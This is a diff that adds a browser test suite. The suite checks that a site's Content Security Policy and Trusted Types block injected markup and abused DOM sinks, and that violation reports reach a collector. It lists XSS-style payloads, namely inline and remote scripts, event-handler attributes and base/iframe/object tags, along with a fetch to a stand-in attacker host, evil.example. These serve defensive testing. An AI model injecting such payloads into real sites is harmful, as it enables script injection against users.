@@ -1,0 +1,127 @@
+// What is not the app's own is stopped by the policy, and its report comes through the tunnel to the collector.
+import type { Page } from 'playwright-core';
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+
+import type { Fields } from '../collector/decode.ts';
+import type { ReceivedItem } from '../collector/receive.ts';
+import { sdkReady, startSite, type Site, type Visitor } from './telemetry/site.ts';
+
+declare global {
+  interface Window {
+    /** Set by whatever attack gets through. */
+    pwned?: boolean;
+  }
+}
+
+let site: Site;
+
+beforeAll(async () => {
+  site = await startSite();
+});
+afterAll(() => site.stop());
+
+/** What a browser's own report says, posted at once and alone. */
+const violation = ({ payload }: ReceivedItem) =>
+  (payload as { 'csp-report': Fields })['csp-report'];
+
+/** The report on a page of this site that is so; waits for it. */
+const reportOf = async (path: string, what: Fields): Promise<Fields> => {
+  const isIt = (item: ReceivedItem): boolean =>
+    item.type === 'security' &&
+    violation(item)['document-uri'] === site.url + path &&
+    Object.entries(what).every(([key, value]) => violation(item)[key] === value);
+  return violation(await site.collector.waitFor(isIt));
+};
+
+const isPwned = (page: Page) => page.evaluate(() => window.pwned ?? false);
+
+describe('what an attacker put into the page as it is sent', () => {
+  const elsewhere = 'https://evil.example';
+  const attacks = [
+    ['<script>window.pwned = true; a.long.story()</script>', 'script-src-elem', 'inline'],
+    [`<script src="${elsewhere}/x.js"></script>`, 'script-src-elem', `${elsewhere}/x.js`],
+    ['<details open ontoggle="window.pwned = true"></details>', 'script-src-attr', 'inline'],
+    ['<style>main { display: none }</style>', 'style-src-elem', 'inline'],
+    [`<link rel="stylesheet" href="${elsewhere}/x.css">`, 'style-src-elem', `${elsewhere}/x.css`],
+    [`<base href="${elsewhere}/">`, 'base-uri', `${elsewhere}/`],
+    [`<iframe src="${elsewhere}/a"></iframe>`, 'frame-src', elsewhere],
+    [`<img src="${elsewhere}/a.png">`, 'img-src', `${elsewhere}/a.png`],
+    [`<object data="${elsewhere}/a"></object>`, 'object-src', elsewhere],
+  ] as const;
+  let phone: Visitor;
+
+  beforeAll(async () => {
+    phone = await site.phone();
+    await phone.page.route('**/jobs', async (route) => {
+      const response = await route.fetch();
+      const markup = attacks.map(([one]) => one).join('');
+      const html = await response.text();
+      await route.fulfill({ response, body: html.replace('<div id="app"', `${markup}$&`) });
+    });
+    await phone.page.goto('/jobs');
+  });
+  afterAll(() => phone.close());
+
+  it.each(attacks)('%s is stopped and reported', async (markup, directive, blocked) => {
+    const what = { 'effective-directive': directive, 'blocked-uri': blocked };
+    const report = await reportOf('/jobs', what);
+    expect(report['disposition']).toBe('enforce');
+    // By its first signs a script is told from that of an extension.
+    if (markup.startsWith('<script>')) {
+      expect(report['script-sample']).toBe('window.pwned = true; a.long.story()');
+    }
+  });
+
+  it('did nothing to the page, which is there and answers', async () => {
+    await phone.page.getByRole('link', { name: /^Paint a room/ }).tap();
+    await phone.page.getByRole('heading', { level: 1, name: 'Paint a room' }).waitFor();
+    expect(await isPwned(phone.page)).toBe(false);
+  });
+});
+
+describe('what a script of the page might be tricked into', () => {
+  const untrusted = 'require-trusted-types-for';
+  const element = `document.createElement('script')`;
+  const attacks = [
+    [
+      `document.body.innerHTML = '<img src onerror>'`,
+      untrusted,
+      'Element innerHTML|<img src onerror>',
+    ],
+    [`${element}.text = 'pwned = true'`, untrusted, 'HTMLScriptElement text|pwned = true'],
+    [`${element}.src = '/assets/a.js'`, untrusted, 'HTMLScriptElement src|/assets/a.js'],
+    [`document.body.setAttribute('onclick', 'pwned()')`, untrusted, 'Element onclick|pwned()'],
+    [`new Worker('/assets/a.js')`, untrusted, 'Worker constructor|/assets/a.js'],
+    [
+      `navigator.serviceWorker.register('/sw.js?a')`,
+      untrusted,
+      'ServiceWorkerContainer register|/sw.js?a',
+    ],
+    [`trustedTypes.createPolicy('evil', {})`, 'trusted-types', 'evil'],
+    [`trustedTypes.createPolicy('default', {})`, 'trusted-types', 'default'],
+    // Ours is made by then, and nobody can make another of its name.
+    [`trustedTypes.createPolicy('own-script', {})`, 'trusted-types', 'own-script'],
+  ] as const;
+  let phone: Visitor;
+
+  beforeAll(async () => {
+    phone = await site.phone({ serviceWorkers: 'allow' });
+    await phone.page.goto('/settings');
+    await sdkReady(phone.page);
+  });
+  afterAll(() => phone.close());
+
+  it.each(attacks)('%s is refused and reported', async (code, directive, sample) => {
+    await expect(phone.page.evaluate(`(async () => { await (${code}); })()`)).rejects.toThrow(
+      'TypeError',
+    );
+    await reportOf('/settings', { 'effective-directive': directive, 'script-sample': sample });
+    expect(await isPwned(phone.page)).toBe(false);
+  });
+
+  it('a call to elsewhere is refused and reported', async () => {
+    const tried = phone.page.evaluate(() => fetch('https://evil.example/a?b#c'));
+    await expect(tried).rejects.toThrow('Failed to fetch');
+    await reportOf('/settings', { 'blocked-uri': 'https://evil.example/a?b' });
+  });
+});
